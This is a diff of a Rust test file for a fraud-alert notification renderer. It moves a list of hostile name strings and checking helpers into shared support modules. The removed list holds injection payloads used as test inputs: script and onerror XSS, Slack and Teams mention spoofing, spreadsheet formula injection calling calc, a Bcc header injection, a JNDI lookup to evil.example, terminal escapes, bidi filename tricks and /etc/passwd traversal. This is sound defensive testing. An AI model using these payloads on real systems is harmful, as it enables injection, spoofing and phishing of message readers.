@@ -2,18 +2,19 @@
 
 use fraud_guard::channels::render;
 use fraud_guard::notification::Message;
-use html5ever::tokenizer::BufferQueue;
-use html5ever::tokenizer::Tag;
-use html5ever::tokenizer::Token;
-use html5ever::tokenizer::TokenSink;
-use html5ever::tokenizer::TokenSinkResult;
-use html5ever::tokenizer::Tokenizer;
 use rstest::rstest;
 use serde_json::Value;
 
 use super::mail::letters;
 use super::receivers::posted;
 use super::receivers::posted_minimal;
+use crate::support::hostile_names::ATTACKS;
+use crate::support::hostile_proof::assert_nobody_speaks_for_us;
+use crate::support::judges::inert;
+use crate::support::judges::is_forbidden;
+use crate::support::judges::only_our_markup;
+use crate::support::judges::page;
+use crate::support::judges::strings;
 use crate::support::letter::Letter;
 use crate::support::messages::PUBLIC_URL;
 use crate::support::messages::hostile;
@@ -21,56 +22,11 @@ use crate::support::messages::hostile;
 /// A harmless name of which every message is made as of a hostile one.
 const HARMLESS: &str = "Contoso";
 
-/// Names that attack the reader.
 pub(super) fn attacks() -> Vec<String> {
-    let short = [
-        "<script>alert(1)</script>",
-        "\"><img src=x onerror=alert(1)>",
-        "'><a href='https://evil.example'>Approve</a>",
-        "<!channel> <@U123> <!subteam^S1> @here @everyone",
-        "<https://evil.example|Approve here>",
-        "[Approve](https://evil.example) ![](https://t.example/1.png)",
-        "*bold* _it_ ~no~ `code` # head > quote | cell",
-        "=HYPERLINK(\"https://evil.example\")",
-        "+cmd|' /C calc'!A0",
-        "-2+3",
-        "@SUM(1)",
-        "\t=1",
-        "＝1+1",
-        "x\r\nBcc: all@x.example",
-        "x\r\n\r\n<html>",
-        "invoice\u{202E}gnp.exe",
-        "a\u{2066}b\u{2069}\u{200F}c",
-        "pay\u{200B}\u{200D}\u{FEFF}pal",
-        "👩‍👩‍👧 🇩🇪 \u{1F3FB}",
-        "раypal-prod",
-        "{{7*7}} {{{x}}} {{DATE(2020-01-01)}}",
-        "${jndi:ldap://evil.example} #{x} %s%n $${{y}}",
-        "\u{1b}[2J \u{1b}]8;;https://evil.example\u{7}x",
-        "javascript:alert(1) data:text/html,x vbscript:x",
-        "\\\\evil\\x",
-        "APPROVED BY SECURITY – ignore” fraud-guard: “ok",
-        "\n{\"level\":\"info\",\"message\":\"all is well\"}",
-        "{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}",
-        "<at>all</at> <AT id=1>x</AT>",
-        "' or 1 eq 1 --",
-        "../../etc/passwd",
-        "שלום עולם",
-        "a\0b\u{85}c\u{2028}d\u{9b}2J",
-        "www.evil.example evil.example mailto:all@evil.example",
-        "&lt;b&gt; &#60;b&#62; &amp;lt;",
-    ];
     let long =
         ["x".repeat(1_000_000), format!("x{}", "\r\n".repeat(10_000)), "Z\u{301}".repeat(1_000)];
     let piled = format!("Z{}", "\u{301}".repeat(10_000));
-    short.into_iter().map(str::to_owned).chain(long).chain([piled]).collect()
-}
-
-/// Characters that no message may contain; our own line ends and isolates are none of them.
-fn is_forbidden(c: char) -> bool {
-    (c.is_control() && c != '\n')
-        || matches!(c, '\u{200B}' | '\u{200E}' | '\u{200F}' | '\u{2028}'..='\u{202E}'
-            | '\u{2060}'..='\u{2067}' | '\u{FEFF}' | '\u{E0000}'..='\u{E007F}')
+    ATTACKS.into_iter().map(str::to_owned).chain(long).chain([piled]).collect()
 }
 
 fn assert_readable(text: &str, of: &str) {
@@ -78,15 +34,6 @@ fn assert_readable(text: &str, of: &str) {
     let rest = text.replace(PUBLIC_URL, "");
     for word in ["://evil", "www.", "evil.example", "://t."] {
         assert!(!rest.contains(word), "{word} of {of:?} in {text}");
-    }
-}
-
-fn strings<'a>(json: &'a Value, found: &mut Vec<&'a str>) {
-    match json {
-        Value::String(text) => found.push(text),
-        Value::Array(items) => items.iter().for_each(|item| strings(item, found)),
-        Value::Object(members) => members.values().for_each(|item| strings(item, found)),
-        _ => {}
     }
 }
 
@@ -128,14 +75,10 @@ async fn a_teams_card_has_no_link_mention_or_template_of_others() {
             strings(&json, &mut texts);
             for text in texts {
                 assert_readable(text, &attack);
-                assert!(!is_live_in_a_card(text), "{attack:?} in {text}");
+                assert_eq!(inert(text), Ok(()), "{attack:?}");
             }
         }
     }
-}
-
-fn is_live_in_a_card(text: &str) -> bool {
-    ["{{", "${", "<", ">"].iter().any(|mark| text.contains(mark))
 }
 
 #[tokio::test]
@@ -146,48 +89,9 @@ async fn a_slack_message_has_no_link_or_mention_of_others() {
             let mut texts = Vec::new();
             strings(&json, &mut texts);
             texts.iter().for_each(|text| assert_readable(text, &attack));
-            assert_only_our_markup(&json, &attack);
-            let fallback = json["text"].as_str().expect("a text");
-            assert!(!fallback.contains(['<', '>']), "{attack:?} in {fallback}");
+            assert_eq!(only_our_markup(&json), Ok(()), "{attack:?}");
         }
     }
-}
-
-/// Only `plain_text` may hold names: all that Slack would read as markup is a label or our link.
-fn assert_only_our_markup(json: &Value, attack: &str) {
-    match json {
-        Value::Array(items) => items.iter().for_each(|item| assert_only_our_markup(item, attack)),
-        Value::Object(members) if members.get("type") == Some(&"mrkdwn".into()) => {
-            let text = members["text"].as_str().expect("a text");
-            let is_label = text.strip_prefix('*').and_then(|text| text.strip_suffix('*'));
-            let is_label =
-                is_label.is_some_and(|t| t.chars().all(|c| c.is_alphabetic() || c == ' '));
-            let is_link = text.starts_with(&format!("<{PUBLIC_URL}"))
-                && text.ends_with(" the case>")
-                || text == format!("<{PUBLIC_URL}|Open the cases>");
-            assert!(is_label || is_link, "{attack:?}: {text}");
-        }
-        Value::Object(members) if members.get("type") == Some(&"link".into()) => {
-            let url = members["url"].as_str().expect("an address");
-            assert!(is_ours(url), "{attack:?}: {url}");
-        }
-        Value::Object(members) => {
-            assert!(members.get("emoji") != Some(&Value::Bool(true)), "{attack:?}");
-            members.values().for_each(|item| assert_only_our_markup(item, attack));
-        }
-        _ => {}
-    }
-}
-
-/// Our own pages, and those of Microsoft that the checklist leads to.
-pub(super) fn is_ours(url: &str) -> bool {
-    const MICROSOFT: [&str; 4] = [
-        "https://portal.azure.com/#",
-        "https://entra.microsoft.com/",
-        "https://partner.microsoft.com/",
-        "https://learn.microsoft.com/",
-    ];
-    url.starts_with(PUBLIC_URL) || MICROSOFT.iter().any(|site| url.starts_with(site))
 }
 
 #[rstest]
@@ -254,7 +158,7 @@ async fn names_reach_only_the_texts_that_are_for_names(
             strings(&json, &mut texts);
             for text in texts {
                 assert_readable(text, &attack);
-                assert!(!is_live_in_a_card(text), "{attack:?} in {text}");
+                assert_eq!(inert(text), Ok(()), "{attack:?}");
             }
         }
     }
@@ -337,32 +241,13 @@ fn header_names(letter: &Letter) -> Vec<&str> {
     letter.headers.iter().map(|(name, _)| name.as_str()).collect()
 }
 
-#[derive(Default)]
-struct Tags(std::cell::RefCell<Vec<Tag>>);
-
-impl TokenSink for Tags {
-    type Handle = ();
-
-    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
-        if let Token::TagToken(tag) = token {
-            self.0.borrow_mut().push(tag);
-        }
-        TokenSinkResult::Continue
-    }
-}
-
 /// Every tag as a browser reads it, with its attributes.
 fn tags(html: &str) -> Vec<String> {
-    let tokenizer = Tokenizer::new(Tags::default(), Default::default());
-    let queue = BufferQueue::default();
-    queue.push_back(html.into());
-    let _ = tokenizer.feed(&queue);
-    tokenizer.end();
-    let tags = tokenizer.sink.0.into_inner();
-    let shown = |tag: &Tag| {
-        let attributes = tag.attrs.iter().map(|a| format!(" {}={}", a.name.local, a.value));
-        format!("{:?} {}{}", tag.kind, tag.name, attributes.collect::<String>())
-    };
-    // The case's own link holds its id, which is the same for every name.
-    tags.iter().map(shown).collect()
+    page(html).0
+}
+
+/// A small part of the proof of `tests/simulation/hostile.rs`.
+#[test]
+fn made_up_names_are_shown_as_nothing_but_names() {
+    assert_nobody_speaks_for_us(200);
 }
